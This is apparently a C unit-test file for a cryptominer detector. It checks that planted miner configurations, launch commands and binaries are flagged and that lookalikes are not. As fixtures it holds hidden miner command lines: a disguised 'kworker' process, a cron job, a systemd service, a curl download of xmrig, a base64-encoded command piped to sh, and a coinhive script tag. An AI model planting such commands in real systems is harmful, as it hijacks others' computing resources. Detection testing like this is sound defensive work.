/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Miners: what is planted is found with its evidence, what only looks like it is not. All plants
 * are inert text; the wallets are the documented donation addresses of the Monero project, the
 * pools are names.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "fake_ledger.h"

#define XMR                                                                                        \
	"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RV" \
	"G"                                                                                        \
	"QBEP3A"
#define ETH "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"
#define BTC "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"

extern const struct analyzer_ops analyzer_miners;
static struct ledger l;
static void *self;

static void show(const char *path, const char *text)
{
	fake_ledger_clear(&l);
	fake_show(&analyzer_miners, self, &l, path, 0644, str_of(text));
}

static void show_bytes(const char *path, const void *bytes, size_t size)
{
	fake_ledger_clear(&l);
	fake_show(&analyzer_miners, self, &l, path, 0755, str_make(bytes, size));
}

static const struct artifact_finding *find(
	const char *check, enum artifact_severity severity, enum artifact_label label)
{
	const struct artifact_finding *f = fake_find(&l, check);

	if (!f || f->severity != severity || f->label != label) {
		fake_print(&l);
		fail_msg("no %s of severity %s", check, artifact_severity_name(severity));
	}
	return f;
}

static void assert_fact(const struct artifact_finding *f, const char *key, const char *wanted)
{
	struct str got = artifact_finding_fact(f, key);

	if (!str_is(got, wanted))
		fail_msg("%s is \"%.*s\", not \"%s\"", key, STR_ARG(got), wanted);
}

static void assert_nothing(void)
{
	if (l.nfindings)
		fake_print(&l);
	assert_int_equal(l.nfindings, 0);
}

/* ---- configurations ------------------------------------------------------------------------ */

#define XMRIG_CONFIG(url, user)                                                                    \
	"{\n    // what a comment says\n    \"autosave\": true,\n    \"cpu\": {\"enabled\": "      \
	"true, "                                                                                   \
	"\"huge-pages\": true},\n    \"donate-level\": 1, /* \"quoted\" */\n    \"pools\": [\n   " \
	"     "                                                                                    \
	"{\n            \"algo\": \"rx/0\",\n            \"coin\": null,\n            \"url\": "   \
	"\"" url "\",\n            \"user\": \"" user                                              \
	"\",\n            \"pass\": \"x\",\n        },\n    ],\n}\n"

static void test_xmrig(void **state)
{
	(void)state;
	show("/root/.config/c.json", XMRIG_CONFIG("pool.supportxmr.com:3333", XMR ".rig01"));
	const struct artifact_finding *f =
		find("miner-config", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	assert_fact(f, "wallet", XMR);
	assert_fact(f, "pool", "pool.supportxmr.com:3333");
	assert_fact(f, "coin", "monero");
	assert_fact(f, "algorithm", "rx/0");
	assert_int_equal(f->line, 10);
	assert_non_null(strstr(f->title.s, "checksum is right"));
	assert_int_equal(l.nfindings, 1);
	/* a proxy of their own, by address */
	show("/app/data.json", XMRIG_CONFIG("203.0.113.5:443", XMR));
	find("miner-config", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	/* and with a name instead of a wallet */
	show("/app/data.json", XMRIG_CONFIG("203.0.113.5:443", "worker7"));
	find("miner-config", ARTIFACT_MEDIUM, LABEL_CRYPTOMINING);
	/* as it comes with the program */
	show("/opt/xmrig/config.json",
		XMRIG_CONFIG("donate.v2.xmrig.com:3333", "YOUR_WALLET_ADDRESS"));
	find("miner-config-stock", ARTIFACT_MEDIUM, LABEL_MINER_CAPABLE);
	assert_int_equal(l.nfindings, 1);
}

static void test_wrong_wallet(void **state)
{
	(void)state;
	/* one character changed: what is left is a known pool with a miner's settings */
	show("/c.json",
		XMRIG_CONFIG("pool.supportxmr.com:3333",
			"45AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98"
			"uNbr2VBBEt7f2wfn3RVGQBEP3A"));
	const struct artifact_finding *f = find("miner-config", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	assert_fact(f, "wallet", "");
}

static void test_xmr_stak(void **state)
{
	(void)state;
	show("/opt/pools.txt",
		"/* pools\n */\n\"pool_list\" :\n[\n\t{\"pool_address\" : "
		"\"pool.hashvault.pro:3333\", "
		"\"wallet_address\" : \"" XMR "\", \"rig_id\" : \"\", \"pool_password\" : \"x\", "
		"\"use_nicehash\" : false, \"use_tls\" : "
		"false, \"tls_fingerprint\" : \"\", \"pool_weight\" : 1 },\n],\n\"currency\" : "
		"\"randomx\",\n");
	const struct artifact_finding *f =
		find("miner-config", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	assert_fact(f, "family", "xmr-stak's");
	assert_fact(f, "algorithm", "randomx");
}

static void test_other_configs(void **state)
{
	(void)state;
	/* T-Rex */
	show("/t/config.json",
		"{\"pools\": [{\"user\": \"" ETH
		"\", \"url\": \"stratum+tcp://eu1.ethermine.org:4444\", \"pass\": \"x\", "
		"\"worker\": \"rig0\"}], \"algo\": \"etchash\", \"api-bind-http\": "
		"\"0.0.0.0:4067\"}");
	find("miner-config", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	/* ccminer, cpuminer */
	show("/c/ccminer.conf",
		"{\n\t\"url\" : \"stratum+tcp://yiimp.example.net:3533\",\n\t\"user\" : "
		"\"" BTC "\",\n\t\"pass\" : \"c=BTC\",\n\t\"algo\" : \"lyra2v2\"\n}\n");
	find("miner-config", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	/* cgminer: users of a pool's own */
	show("/c/cgminer.conf",
		"{\"pools\":[{\"url\":\"stratum+tcp://stratum.antpool.com:3333\","
		"\"user\":\"somebody.1\",\"pass\":\"123\"}],\n\"intensity\":\"9\"}");
	show("/c/cgminer.conf",
		"{\"pools\":[{\"url\":\"stratum+tcp://stratum.antpool.com:3333\","
		"\"user\":\"somebody.1\",\"pass\":\"123\"}],\n\"algorithm\":\"sha256d\"}");
	find("miner-config", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	/* NBMiner: deep */
	show("/n.json",
		"{\"a\":{\"b\":[{\"algo\":\"kawpow\",\"url\":\"rvn.2miners.com:6060\",\"user\":"
		"\"RXabc.rig\"}]}}");
	find("miner-config", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
}

static void test_not_configs(void **state)
{
	(void)state;
	show("/app/db.json",
		"{\"url\": \"db.example.com:5432\", \"user\": \"app\", \"pass\": \"x\", "
		"\"algorithm\": \"scrypt\", \"pools\": [{\"host\": \"a.example.com\", "
		"\"user\": \"b\"}], \"nicehash\": null}");
	assert_nothing();
	/* a wallet for donations, and no pool */
	show("/app/package.json", "{\"name\": \"xmrig-monitor\", \"url\": \"https://example.com\", "
				  "\"user\": \"" XMR "\"}");
	assert_nothing();
	show("/a.json", "{\"donate-level\": ");
	assert_nothing();
	show("/usr/share/doc/x/examples/config.json",
		XMRIG_CONFIG("donate.v2.xmrig.com:3333", "YOUR_WALLET_ADDRESS"));
	assert_nothing();
}

static void test_two_wallets(void **state)
{
	(void)state;
	show("/c.json", "{\"donate-level\": 1, \"pools\": ["
			"{\"url\": \"pool.hashvault.pro:80\", \"user\": \"" XMR "\"},"
			"{\"url\": \"pool.hashvault.pro:80\", \"user\": \"" BTC "\"},"
			"{\"url\": \"pool.hashvault.pro:80\", \"user\": \"" BTC "\"}]}");
	assert_int_equal(fake_count(&l, "miner-config"), 2);
}

static void test_page(void **state)
{
	(void)state;
	show("/var/www/html/index.html",
		"<script src=\"https://coinhive.com/lib/coinhive.min.js\">");
	find("miner-pool", ARTIFACT_LOW, LABEL_CRYPTOMINING);
}

/* A line of thousands of words, a thousand pools: memory and time stay small. */
static void test_long_line(void **state)
{
	static char text[250000];
	size_t n = 0;

	(void)state;
	while (n + 40 < sizeof(text))
		n += (size_t)snprintf(text + n, sizeof(text) - n, "xmrig -o x%zu.2miners.com ", n);
	show("/a.sh", text);
	assert_true(l.nfindings > 0 && l.nfindings <= 16);
	assert_true(l.member.held < 4 << 20);
}

/* ---- command lines ------------------------------------------------------------------------- */

static void test_script(void **state)
{
	(void)state;
	show("/entrypoint.sh", "#!/bin/sh\nset -e\nnohup ./kworker --donate-level 1 \\\n  -o "
			       "stratum+ssl://gulf.moneroocean.stream:20128 \\\n  -u " XMR
			       " -p x -a rx/0 -k >/dev/null 2>&1 &\nwait\n");
	const struct artifact_finding *f =
		find("miner-command", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	assert_fact(f, "wallet", XMR);
	assert_fact(f, "pool", "gulf.moneroocean.stream:20128");
	assert_fact(f, "algorithm", "rx/0");
	assert_int_equal(l.nfindings, 1);
	show("/etc/cron.d/x",
		"* * * * * root /tmp/xmrig --url=203.0.113.9:3333 --user=" XMR " -B\n");
	find("miner-command", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	show("/etc/systemd/system/m.service",
		"[Service]\nExecStart=/usr/local/bin/minerd -a cryptonight -o "
		"stratum+tcp://xmr.example.org:3333 -u me.1 -p x\n");
	f = find("miner-command", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	assert_fact(f, "program", "minerd");
	/* PhoenixMiner, lolMiner, Claymore */
	show("/r.sh", "./PhoenixMiner -pool eu1.ethermine.org:4444 -wal " ETH ".rig -pass x\n");
	find("miner-command", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	show("/r.sh",
		"lolMiner --algo AUTOLYKOS2 --pool pool.eu.woolypooly.com:3100 --user 9fxyz\n");
	find("miner-command", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	show("/r.sh", "ethminer -P stratum1+tcp://" ETH ".rig@etc.example.net:4444\n");
	find("miner-command", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
}

static void test_config_texts(void **state)
{
	(void)state;
	fake_ledger_clear(&l);
	fake_show_text(&analyzer_miners, self, &l, PLACE_ENTRYPOINT, 0,
		"/app/node -o pool.supportxmr.com:443 -u " XMR " --tls --coin monero");
	const struct artifact_finding *f =
		find("miner-command", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	assert_int_equal(f->place, PLACE_ENTRYPOINT);
	fake_ledger_clear(&l);
	fake_show_text(&analyzer_miners, self, &l, PLACE_HISTORY, 3,
		"/bin/sh -c #(nop)  CMD [\"./a\" \"--pool\" \"xmr-eu1.nanopool.org:14444\" \"-u\" "
		"\"" XMR "\"]");
	find("miner-command", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	fake_ledger_clear(&l);
	fake_show_text(&analyzer_miners, self, &l, PLACE_HISTORY, 3,
		"RUN curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/"
		"xmrig-6.21.0-linux-static-x64.tar.gz | tar xz");
	find("miner-download", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	fake_ledger_clear(&l);
	fake_show_text(&analyzer_miners, self, &l, PLACE_ENV, 3, "POOL_URL=xmr.2miners.com:2222");
	find("miner-pool", ARTIFACT_MEDIUM, LABEL_CRYPTOMINING);
}

static void test_spread_env(void **state)
{
	const struct str env[] = {
		STR("PATH=/bin"), STR("POOL=xmr.2miners.com:2222"), STR("WALLET=" XMR)};
	struct artifact_image image = {.config = {.env = env, .nenv = 3}};

	(void)state;
	fake_ledger_clear(&l);
	fake_show_image(&analyzer_miners, self, &l, &image);
	const struct artifact_finding *f = fake_find(&l, "miner-settings");
	assert_non_null(f);
	assert_fact(f, "wallet", XMR);
	image.config.nenv = 2;
	fake_ledger_clear(&l);
	fake_show_image(&analyzer_miners, self, &l, &image);
	assert_nothing();
}

static void test_settings(void **state)
{
	(void)state;
	show("/srv/run.py",
		"POOL = 'stratum+tcp://xmr.example.org:3333'\nWALLET = '" XMR "'\nALGO = 'rx/0'\n");
	const struct artifact_finding *f =
		find("miner-settings", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	assert_fact(f, "algorithm", "rx/0");
	assert_int_equal(f->line, 1);
	show("/srv/run.py", "url = 'stratum+tcp://xmr.example.org:3333'\n");
	find("miner-pool", ARTIFACT_LOW, LABEL_CRYPTOMINING);
	show("/srv/run.sh", "#!/bin/sh\nnc pool.hashvault.pro 80\n");
	find("miner-pool", ARTIFACT_MEDIUM, LABEL_CRYPTOMINING);
}

static void test_encoded(void **state)
{
	(void)state;
	/* base64 of: xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u XMR */
	show("/run.sh", "#!/bin/sh\necho "
			"eG1yaWcgLW8gc3RyYXR1bSt0Y3A6Ly9wb29sLnN1cHBvcnR4bXIuY29tOjMzMzMgLXUgND"
			"RBRkZxNWtTaUdCb1o0Tk1Ed1l0TjE4b2JjOEFlbVMzM0RCTFdzM0g3b3RYZnQzWGpycER0"
			"UUd2N1NxU3NhQllCYjk4dU5icjJWQkJFdDdmMndmbjNSVkdRQkVQM0E="
			" | base64 -d | sh\n");
	const struct artifact_finding *f =
		find("miner-command", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	assert_fact(f, "wallet", XMR);
	assert_non_null(strstr(f->title.s, "base64"));
}

static void test_not_commands(void **state)
{
	(void)state;
	show("/run.sh", "#!/bin/sh\ncurl -o /tmp/x https://example.com/a -u user:pw\n");
	assert_nothing();
	show("/etc/chrony.conf", "local stratum 10\nserver ntp.example.com\n");
	assert_nothing();
	show("/a.sh", "grep -q 'stratum+tcp' /var/log/x && pkill xmrig\n");
	assert_nothing();
	show("/usr/share/doc/xmrig/README", "xmrig -o pool.supportxmr.com:3333 -u " XMR "\n");
	assert_nothing();
	show("/app/README.md", "xmrig -o pool.supportxmr.com:3333 -u " XMR "\n");
	assert_nothing();
	/* a command hides behind a list */
	show("/x.sh",
		"# supportxmr.com minexmr.com hashvault.pro nanopool.org 2miners.com c3pool.com "
		"moneroocean.stream herominers.com xmrpool.eu\n./a -o pool.hashvault.pro:80 -u " XMR
		"\n");
	find("miner-command", ARTIFACT_CRITICAL, LABEL_CRYPTOMINING);
	/* a blocklist */
	show("/etc/block.conf",
		"supportxmr.com\nminexmr.com\nhashvault.pro\nnanopool.org\n2miners.com\n"
		"moneroocean.stream\nc3pool.com\nherominers.com\nxmrpool.eu\n");
	assert_nothing();
}

/* ---- programs ------------------------------------------------------------------------------ */

static const char elf_head[] = "\x7f"
			       "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0";

static void show_program(const char *path, const char *const *strings)
{
	static char bytes[4096];
	size_t n = sizeof(elf_head) - 1;

	memset(bytes, 0, sizeof(bytes));
	memcpy(bytes, elf_head, n);
	for (; *strings; strings++, n++)
		n += (size_t)snprintf(bytes + n, sizeof(bytes) - n, "%s", *strings);
	show_bytes(path, bytes, n);
}

static void test_programs(void **state)
{
	(void)state;
	/* markers only: no code */
	show_program(
		"/tmp/.x/kswapd0", (const char *const[]){"stratum+tcp://", "randomx", "cn-heavy/0",
					   "donate-level", "nicehash", "rig-id", NULL});
	find("miner-program", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	show_program("/usr/local/bin/kworkerd",
		(const char *const[]){"XMRig 6.26.0", "donate.v2.xmrig.com:3333", "randomx",
			"stratum+tcp://", "mining.subscribe", "cryptonight", NULL});
	find("miner-program", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	show_program("/usr/bin/monerod", (const char *const[]){"RandomX\x03", "start_mining",
						 "mining_status", "cryptonight", NULL});
	find("miner-capable", ARTIFACT_INFO, LABEL_MINER_CAPABLE);
	/* one word, a library of an NTP server, a monitor of network traffic */
	show_program("/usr/sbin/chronyd", (const char *const[]){"stratum", "hashrate", NULL});
	assert_nothing();
	show_program("/usr/lib/libndpi.so.4", (const char *const[]){"mining.subscribe",
						      "mining.configure", "eth_submitLogin", NULL});
	assert_nothing();
}

static void test_windows(void **state)
{
	static char big[40000];
	struct artifact_file f = {.path = STR("/tmp/m"), .kind = ARTIFACT_FILE, .mode = 0755};

	(void)state;
	memset(big, 0, sizeof(big));
	memcpy(big, elf_head, sizeof(elf_head) - 1);
	strcpy(big + 9000, "stratum+tcp://");
	strcpy(big + 18000, "randomx");
	strcpy(big + 27000, "donate-level");
	strcpy(big + 29000, "nicehash");
	f.size = sizeof(big);
	fake_ledger_clear(&l);
	fake_show_windows(&analyzer_miners, self, &l, &f, str_make(big, sizeof(big)), 8192, 256);
	find("miner-program", ARTIFACT_HIGH, LABEL_CRYPTOMINING);
	/* the next member knows nothing of it */
	fake_ledger_clear(&l);
	f.path = STR("/tmp/n");
	memset(big + 9000, 0, 100);
	fake_show_windows(&analyzer_miners, self, &l, &f, str_make(big, sizeof(big)), 8192, 256);
	assert_nothing();
}

static void test_excerpts(void **state)
{
	(void)state;
	show("/r.sh", "#!/bin/sh\nxmrig -o stratum+tcp://pool.supportxmr.com:3333 -u " XMR "\n");
	for (size_t k = 0; k < l.nfindings; k++) {
		assert_true(l.findings[k].excerpt.len > 0 && l.findings[k].excerpt.len <= 200);
		assert_true(l.findings[k].title.len > 0 && l.findings[k].mend.len > 0);
	}
}

static int open_it(void **state)
{
	struct err e = {0};

	(void)state;
	fake_ledger_init(&l);
	return analyzer_miners.open(&(struct analyzer_options){.data_dir = "data"}, &self, &e);
}

static int close_it(void **state)
{
	(void)state;
	analyzer_miners.close(self);
	fake_ledger_done(&l);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_xmrig),
		cmocka_unit_test(test_wrong_wallet),
		cmocka_unit_test(test_xmr_stak),
		cmocka_unit_test(test_other_configs),
		cmocka_unit_test(test_not_configs),
		cmocka_unit_test(test_two_wallets),
		cmocka_unit_test(test_page),
		cmocka_unit_test(test_long_line),
		cmocka_unit_test(test_script),
		cmocka_unit_test(test_config_texts),
		cmocka_unit_test(test_spread_env),
		cmocka_unit_test(test_settings),
		cmocka_unit_test(test_encoded),
		cmocka_unit_test(test_not_commands),
		cmocka_unit_test(test_programs),
		cmocka_unit_test(test_windows),
		cmocka_unit_test(test_excerpts),
	};

	return cmocka_run_group_tests(tests, open_it, close_it);
}
